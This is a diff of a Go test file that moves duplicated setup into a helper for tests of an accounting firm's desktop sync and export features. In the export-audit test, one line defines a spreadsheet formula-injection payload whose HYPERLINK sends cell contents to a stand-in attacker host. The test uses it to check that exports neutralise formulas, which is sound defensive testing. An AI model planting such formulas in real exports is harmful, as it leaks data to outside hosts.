@@ -141,14 +141,12 @@ func (d *desk) bySIRET(siret string) (core.StructureRecord, error) {
 	return found, err
 }
 
-// TestTwoDesktopsMerge: two accountants of one firm, with real stores and
-// a real server: a client prepared on one arrives on the other; both edit
-// it offline, different fields: merged on both; the same field: Conflict
-// on the one that sent second, both values kept, resolved there, and the
-// resolution arrives on the first.
-func TestTwoDesktopsMerge(t *testing.T) {
+// twoDesks starts the firm's server with a firm whose admin is Ana and
+// whose member on every client is Bob, each with a desktop joined to it.
+func twoDesks(t *testing.T) (ana, bob *desk) {
+	t.Helper()
 	fs := newFirmServer(t)
-	ana, bob := fs.newDesk(t, "ana@cabinet.example"), fs.newDesk(t, "bob@cabinet.example")
+	ana, bob = fs.newDesk(t, "ana@cabinet.example"), fs.newDesk(t, "bob@cabinet.example")
 	if err := fs.ops.CreateFirm(t.Context(), "Cabinet Martin", "ana@cabinet.example"); err != nil {
 		t.Fatal(err)
 	}
@@ -157,6 +155,16 @@ func TestTwoDesktopsMerge(t *testing.T) {
 	}
 	ana.join(fs.hs.URL, true)
 	bob.join(fs.hs.URL, true)
+	return ana, bob
+}
+
+// TestTwoDesktopsMerge: two accountants of one firm, with real stores and
+// a real server: a client prepared on one arrives on the other; both edit
+// it offline, different fields: merged on both; the same field: Conflict
+// on the one that sent second, both values kept, resolved there, and the
+// resolution arrives on the first.
+func TestTwoDesktopsMerge(t *testing.T) {
+	ana, bob := twoDesks(t)
 
 	const siret = "73282932000074"
 	ana.save(siret, func(*core.StructureDraft) {}, "")
@@ -224,16 +232,7 @@ func TestTwoDesktopsMerge(t *testing.T) {
 // firm's clients on their computer; what they typed and did not send is
 // saved to a file first.
 func TestRemovedMemberKeepsNone(t *testing.T) {
-	fs := newFirmServer(t)
-	ana, bob := fs.newDesk(t, "ana@cabinet.example"), fs.newDesk(t, "bob@cabinet.example")
-	if err := fs.ops.CreateFirm(t.Context(), "Cabinet Martin", "ana@cabinet.example"); err != nil {
-		t.Fatal(err)
-	}
-	if err := fs.ops.AddMember(t.Context(), "Cabinet Martin", "bob@cabinet.example", api.FirmEveryClient); err != nil {
-		t.Fatal(err)
-	}
-	ana.join(fs.hs.URL, true)
-	bob.join(fs.hs.URL, true)
+	ana, bob := twoDesks(t)
 	ana.save("73282932000074", func(*core.StructureDraft) {}, "")
 	ana.sync()
 	bob.sync()
@@ -330,16 +329,7 @@ func TestOneSubmissionPerClient(t *testing.T) {
 // is guarded in the CSV and a text cell, never a formula, in the
 // workbook; a member who is not admin may not export.
 func TestExportAudit(t *testing.T) {
-	fs := newFirmServer(t)
-	ana, bob := fs.newDesk(t, "ana@cabinet.example"), fs.newDesk(t, "bob@cabinet.example")
-	if err := fs.ops.CreateFirm(t.Context(), "Cabinet Martin", "ana@cabinet.example"); err != nil {
-		t.Fatal(err)
-	}
-	if err := fs.ops.AddMember(t.Context(), "Cabinet Martin", "bob@cabinet.example", api.FirmEveryClient); err != nil {
-		t.Fatal(err)
-	}
-	ana.join(fs.hs.URL, true)
-	bob.join(fs.hs.URL, true)
+	ana, bob := twoDesks(t)
 	const evil = `=HYPERLINK("http://attacker.example/?"&A1,"voir")`
 	bob.save("73282932000074", func(d *core.StructureDraft) { d.City = "Lyon" }, evil)
 	bob.sync()
